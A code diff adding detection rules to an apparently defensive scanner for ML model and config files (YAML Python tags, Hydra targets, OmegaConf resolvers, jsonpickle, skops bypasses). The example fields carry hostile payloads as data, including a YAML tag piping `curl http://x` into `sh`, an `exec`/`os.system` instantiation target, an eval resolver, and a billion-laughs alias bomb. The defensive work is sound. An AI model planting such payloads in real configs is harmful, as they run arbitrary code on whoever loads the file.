@@ -137,7 +137,7 @@ ARCHIVE_PATH_TRAVERSAL = register_rule(
         "overwrite a shell profile, a Python module on the import path or a model a service "
         "loads next. Model archives never need such names.",
         example="A member named `../../../home/user/.bashrc` or `C:\\Windows\\evil.dll`.",
-        references=_ZIP_SLIP,
+        references=(*_ZIP_SLIP, "CVE-2025-23360"),
     )
 )
 
@@ -1011,5 +1011,265 @@ METADATA_EMBEDDED_PICKLE = register_rule(
         "scanners do not look.",
         example='{"__metadata__": {"state": "gASV..."}} (base64 of a pickle calling os.system)',
         references=("CWE-502",),
+    )
+)
+
+
+# ---- configuration that runs code (YAML tags, instantiation targets, jsonpickle, skops) -----
+
+_PYYAML_CVES = ("CVE-2017-18342", "CVE-2019-20477", "CVE-2020-1747", "CVE-2020-14343")
+_CONFIG_POLICY = (
+    " Severity follows the callable policy that judges pickle imports: a denied callable "
+    "(`os.system`, `builtins.eval`, `importlib.import_module`...) at its own severity (high or "
+    "critical), a callable on no allow list at medium (it fails the default policy)."
+)
+
+YAML_PYTHON_OBJECT = register_rule(
+    Rule(
+        id="YAML-PYTHON-OBJECT",
+        pillar="scan",
+        severity=Severity.MEDIUM,
+        title="YAML tag imports or calls Python code",
+        what="Reports a YAML node tagged to build a Python object: `python/object/apply` and "
+        "`python/object/new` (call a callable with the node's arguments), `python/object` "
+        "(create an instance and set its state), `python/name` (a reference to any function "
+        "or class) and `python/module` (import a module). Tags are resolved on the parsed "
+        "document as the loader resolves them, so short (`!!python/...`), verbatim "
+        "(`!<tag:yaml.org,2002:python/...>`), `%TAG`-aliased and URI-escaped forms, and tags "
+        "behind anchors, aliases and merge keys, are all found; tags on mapping keys count "
+        "too. The plain Python scalar and collection tags (`python/tuple`, `python/str`, "
+        "`python/bytes`, `python/int`, `python/float`, `python/complex`, `python/list`, "
+        "`python/dict`, `python/none`, `python/bool`...) that Keras and Lightning write are "
+        "not reported, nor are callables on the safe list (NumPy scalars as `yaml.dump` "
+        "writes them). The evidence names the resolved callable, the tag, and its line and "
+        "column." + _CONFIG_POLICY,
+        why="PyYAML's `yaml.load` with `Loader`/`UnsafeLoader` (and `FullLoader` before 5.4, "
+        "and `yaml.load` without a loader before 6.0), ruamel.yaml's `typ='unsafe'`, Keras' "
+        "`model_from_yaml` and Lightning's `hparams.yaml` reader construct these tags: "
+        "loading the file imports the module and calls the function with arguments the file "
+        "chooses, which is arbitrary code execution.",
+        example="`!!python/object/apply:os.system ['curl http://x | sh']`, or the same as "
+        "`!<tag:yaml.org,2002:python/object/apply:os%2Esystem>`.",
+        references=(*_PYYAML_CVES, "CVE-2021-37678", "CVE-2021-4118", "CWE-502"),
+    )
+)
+
+YAML_UNPARSEABLE = register_rule(
+    Rule(
+        id="YAML-UNPARSEABLE",
+        pillar="scan",
+        severity=Severity.MEDIUM,
+        title="YAML document could not be parsed",
+        what="Reports YAML that PyYAML's parser refuses (a syntax error, an undefined alias, "
+        "an anchor defined twice) in a file named `.yaml`/`.yml` or whose text declares "
+        "itself YAML (`%YAML`/`%TAG` directives, Python tags). Documents read before the "
+        "error were analysed; the rest was not, and the file is marked as not fully "
+        "analysed. When the unread text holds Python object tags, the finding is high and "
+        "names them. Text that merely looks like `key: value` prose and does not parse is "
+        "treated as ordinary text.",
+        why="What was not parsed was not analysed, and YAML readers disagree on edge cases "
+        "(ruamel.yaml reads YAML 1.2, libyaml and PyYAML's Python parser differ): a file "
+        "this parser refuses may still load elsewhere.",
+        example="`model: !!python/object/apply:os.system [id` (an unclosed flow sequence).",
+        references=("CWE-20",),
+        incomplete=True,
+    )
+)
+
+YAML_ALIAS_EXPANSION = register_rule(
+    Rule(
+        id="YAML-ALIAS-EXPANSION",
+        pillar="scan",
+        severity=Severity.MEDIUM,
+        title="YAML aliases expand to a huge or endless structure",
+        what="Reports a YAML document whose aliases, expanded, would make more nodes than "
+        '`limits.max_document_values` (a "billion laughs"), or that contains itself '
+        "through an anchor. The scanner counts the expansion without performing it and "
+        "analyses every node once.",
+        why="PyYAML shares aliased objects, but the libraries that read configs copy or walk "
+        "them (OmegaConf creates a node per value, `json.dumps` and `deepcopy` expand "
+        "them): a few hundred bytes exhaust the memory or never finish.",
+        example="Nine levels of `&a [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]` (10^9 nodes).",
+        references=("CWE-776", "CWE-674"),
+    )
+)
+
+_HYDRA = "https://hydra.cc/docs/advanced/instantiate_objects/overview/"
+
+CONFIG_TARGET = register_rule(
+    Rule(
+        id="CONFIG-TARGET",
+        pillar="scan",
+        severity=Severity.MEDIUM,
+        title="Configuration names a callable a loader instantiates",
+        what="Reports an instantiation target in a YAML or JSON document that is on no allow "
+        "list. Targets are the values of keys that instantiation libraries import and call: "
+        "Hydra/OmegaConf `_target_` (NeMo, detectron2 LazyConfig, uni2TS, FlexTok and most "
+        "Hydra-based libraries) at any depth, including inside `_args_`, lists and `_partial_` "
+        "factories; jsonargparse/LightningCLI `class_path`; the Hydra 0.x form `cls`, `class` "
+        "or `target` beside `params`; the `target` at the root of a NeMo model config; the "
+        "`class` and `()` factories of a `logging.config.dictConfig` schema (a mapping with "
+        "`version: 1` and `handlers`/`formatters`/`filters`); and mmengine's `type`, which is "
+        "reported only when it names a denied callable (its dotted values are usually scoped "
+        "registry names such as `mmdet.ResNet`). Values reached through `${...}` "
+        "interpolation are resolved inside the document. The arguments of lookup helpers "
+        "(`hydra.utils.get_method`/`get_class`/`get_object`, `pydoc.locate`, "
+        "`importlib.import_module`, `functools.partial`...) are judged as the target they "
+        "name. Each target is judged by the per-framework allow tables "
+        "(`scanner/data/config_targets*.toml`: PyTorch, Lightning, NeMo, transformers, timm, "
+        "torchmetrics, Hydra and logging entries, exact names only), then by the callable "
+        "policy. The evidence gives the key path, line and column (YAML), the resolved "
+        "callable and the helper or interpolation it came through." + _CONFIG_POLICY,
+        why="`hydra.utils.instantiate` and its equivalents import whatever module the value "
+        "names and call it with the sibling keys as arguments: a model config that names "
+        "`os.system` or `builtins.exec` runs it when the model is built. NeMo `.nemo` "
+        "archives (CVE-2025-23304), uni2TS `config.json` (CVE-2026-22584) and FlexTok "
+        "safetensors metadata were attacked this way; Hydra's own blocklist (1.3.4+) is "
+        "partial.",
+        example="`encoder: {_target_: builtins.exec, _args_: ['import os; os.system(\"id\")']}` "
+        "in `model_config.yaml` inside a `.nemo` file.",
+        references=("CVE-2025-23304", "CVE-2026-22584", "CWE-470", "CWE-94", _HYDRA),
+    )
+)
+
+CONFIG_TARGET_DYNAMIC = register_rule(
+    Rule(
+        id="CONFIG-TARGET-DYNAMIC",
+        pillar="scan",
+        severity=Severity.MEDIUM,
+        title="Instantiation target cannot be known from the file",
+        what="Reports an instantiation target (see `CONFIG-TARGET`) whose value is built from "
+        "something outside the file: an environment variable (`${oc.env:...}`), a custom "
+        "OmegaConf resolver, a key the document does not hold (filled by command-line "
+        "overrides or another config), or a value that is not text. The evidence gives the "
+        "key path and the unresolved expression.",
+        why="The scanner cannot tell which callable the loader will import, so it cannot "
+        "call the file safe; an attacker who controls the environment or the other config "
+        "chooses the code that runs.",
+        example="`_target_: ${oc.env:MODEL_CLASS}`",
+        references=("CWE-470", _HYDRA),
+    )
+)
+
+CONFIG_RESOLVER = register_rule(
+    Rule(
+        id="CONFIG-RESOLVER",
+        pillar="scan",
+        severity=Severity.MEDIUM,
+        title="Configuration calls a custom OmegaConf resolver",
+        what="Reports `${name:...}` interpolations whose resolver is not one of OmegaConf's "
+        "and Hydra's own (`oc.env`, `oc.select`, `oc.create`, `oc.decode`, `oc.deprecated`, "
+        "`oc.dict.keys`, `oc.dict.values`, `hydra:`...). High when the resolver's name says it "
+        "evaluates code (`eval`, `exec`, `python`...), which many projects register.",
+        why="A resolver is a Python function the loading program registered; its argument comes "
+        "from the file. Projects commonly register `eval` to compute values, which turns "
+        "any config value into arbitrary code.",
+        example='`lr: ${eval:\'__import__("os").system("id")\'}`',
+        references=("CWE-94", "https://omegaconf.readthedocs.io/en/latest/custom_resolvers.html"),
+    )
+)
+
+CONFIG_TRUST_REMOTE_CODE = register_rule(
+    Rule(
+        id="CONFIG-TRUST-REMOTE-CODE",
+        pillar="scan",
+        severity=Severity.HIGH,
+        title="Instantiation argument enables remote code",
+        what="Reports `trust_remote_code: true` among the arguments of an instantiation target "
+        "(`transformers.AutoModel.from_pretrained`, pipelines, tokenizers...).",
+        why="With it, transformers downloads and imports the Python files of the model "
+        "repository named beside it; the config then runs code from a repository the "
+        "scanned file does not contain.",
+        example="`{_target_: transformers.AutoModel.from_pretrained, "
+        "pretrained_model_name_or_path: org/repo, trust_remote_code: true}`",
+        references=("CWE-829", "CWE-494"),
+    )
+)
+
+JSONPICKLE_OBJECT = register_rule(
+    Rule(
+        id="JSONPICKLE-OBJECT",
+        pillar="scan",
+        severity=Severity.MEDIUM,
+        title="jsonpickle document imports or calls Python code",
+        what="Reports the jsonpickle tags that import and call: `py/reduce` (calls a callable "
+        "with arguments), `py/object` (creates an instance, with `py/newargs`, "
+        "`py/newargsex`, `py/initargs` and `py/state`), `py/type` and `py/function` "
+        "(references to any class or function), `py/mod` (a module attribute) and `py/repr` "
+        "(evaluated with `eval` by `decode(safe=False)` and jsonpickle before 1.0; a module "
+        "attribute otherwise). Keys written as `json://` are decoded and analysed too. The "
+        "evidence gives the key path and the resolved callable. Callables and classes on the "
+        "safe list are not reported." + _CONFIG_POLICY,
+        why="`jsonpickle.decode` imports the named modules and calls `__reduce__` callables "
+        "with arguments from the file; `safe=True` (the default since 3.0) only removes the "
+        "`eval` of `py/repr` and blocks none of the others.",
+        example='`{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}`',
+        references=("CVE-2020-22083", "CWE-502", "https://jsonpickle.github.io/"),
+    )
+)
+
+_SKOPS = "https://skops.readthedocs.io/en/stable/persistence.html"
+
+SKOPS_UNTRUSTED_TYPE = register_rule(
+    Rule(
+        id="SKOPS-UNTRUSTED-TYPE",
+        pillar="scan",
+        severity=Severity.MEDIUM,
+        title="skops file names a type or function skops does not trust by default",
+        what="Reports a node of a skops `schema.json` whose type or function is outside the "
+        "set `skops.io.load` trusts by default for that kind of node (generated from skops "
+        "into `scanner/data/skops_trusted.toml`: scikit-learn estimators, NumPy and SciPy "
+        "ufuncs and dtypes, builtin containers...), as `skops.io.get_untrusted_types` would "
+        "list it: object instances, functions, types, bound methods (`class.method`), "
+        "`operator` getters, partials, constructor calls and `numpy.random` bit generators. "
+        "Each is judged by the callable policy too: low when the policy holds it safe, "
+        "otherwise at the policy's severity (medium for an unknown callable, high or critical "
+        "for a denied one).",
+        why="Loading such a file needs the user to pass the names in `trusted=`; users copy "
+        "`get_untrusted_types()` into it (and passed `trusted=True` before skops 0.10, "
+        "CVE-2024-37065), after which skops imports and calls what the file names.",
+        example="A FunctionNode for `builtins.eval`, or an ObjectNode of `os._wrap_close`.",
+        references=("CVE-2024-37065", "CWE-502", _SKOPS),
+    )
+)
+
+SKOPS_TAMPERED_NODE = register_rule(
+    Rule(
+        id="SKOPS-TAMPERED-NODE",
+        pillar="scan",
+        severity=Severity.HIGH,
+        title="skops schema node built to get past skops' audit",
+        what="Reports skops schema nodes that only a hand-edited file holds, each a published "
+        "way around `skops.io.load`'s type audit: an `OperatorFuncNode` whose `__module__` "
+        "is not `operator` (the audit checks one name, the loader calls another; "
+        "CVE-2025-54412), a `MethodNode` whose declared class differs from the object it is "
+        "bound to (CVE-2025-54413), a `LossNode` naming a class outside scikit-learn's "
+        "losses (skops before 0.14 imported it before the audit), a `RandomGeneratorNode` "
+        "whose bit generator is not a NumPy bit generator, and nodes of a loader skops does "
+        "not have. Critical when the callable reached is a denied one.",
+        why="skops versions before the fixes load these files while `get_untrusted_types` "
+        "reports nothing (or something harmless-looking), so a reviewed file still runs "
+        "`operator` getters, arbitrary methods or module imports.",
+        example='`{"__loader__": "OperatorFuncNode", "__module__": "sklearn.pipeline", '
+        '"__class__": "methodcaller", "attrs": ...}`',
+        references=("CVE-2025-54412", "CVE-2025-54413", "CWE-502", _SKOPS),
+    )
+)
+
+SKOPS_NOT_ZIP = register_rule(
+    Rule(
+        id="SKOPS-NOT-ZIP",
+        pillar="scan",
+        severity=Severity.HIGH,
+        title="A .skops file that is not a zip archive",
+        what="Reports a file named `.skops` whose content is not a zip archive. It was "
+        "analysed by content (a pickle is analysed as a pickle); this finding says that the "
+        "name promises skops' audited format while the content is something else.",
+        why="`skops.card.Card.get_model` (and `_load_model`) fall back to `joblib.load`, that "
+        "is to unpickling, for any model file that is not a zip: silently in skops 0.12 and "
+        "below (CVE-2025-54886), and with `allow_pickle=True` since. A reviewer who trusts "
+        "the extension never sees the pickle.",
+        example="A joblib pickle saved as `model.skops`.",
+        references=("CVE-2025-54886", "CWE-502", _SKOPS),
     )
 )
